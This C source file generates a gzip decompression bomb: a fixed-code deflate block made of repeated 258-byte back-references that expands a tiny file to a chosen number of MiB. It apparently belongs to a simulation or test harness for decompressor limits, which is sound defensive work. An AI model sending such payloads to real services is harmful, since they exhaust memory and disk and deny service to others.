/* One deflate block with the fixed codes of RFC 1951: a blank, then "the last byte 258 times",
 * again and again, 13 bits each. Huffman codes go in from their highest bit, all else from the
 * lowest.
 */
#include "sim/inflate_bomb.h"

#define RUN 258 /* bytes of the longest match */

struct bits {
    struct buf *out;
    unsigned value;
    int count;
};

static void put_bit(struct bits *b, unsigned bit)
{
    b->value |= bit << b->count;
    if (++b->count < 8)
        return;
    buf_char(b->out, (char)b->value);
    b->value = 0;
    b->count = 0;
}

static void put_code(struct bits *b, unsigned code, int length)
{
    while (length-- > 0)
        put_bit(b, code >> length & 1);
}

void inflate_bomb(int mib, struct buf *out)
{
    static const unsigned char header[10] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255};
    struct bits b = {out, 0, 0};
    buf_add(out, header, sizeof header);
    put_bit(&b, 1); /* last block */
    put_bit(&b, 1); /* fixed codes: 01, lowest bit first */
    put_bit(&b, 0);
    put_code(&b, 0x30 + ' ', 8);
    for (long runs = (long)mib * 1024 * 1024 / RUN; runs > 0; runs--) {
        put_code(&b, 0xc5, 8); /* length 258 */
        put_code(&b, 0, 5);    /* distance 1 */
    }
    put_code(&b, 0, 7); /* end of block */
    while (b.count > 0)
        put_bit(&b, 0);
    buf_add(out, "\0\0\0\0\0\0\0", 8);
}
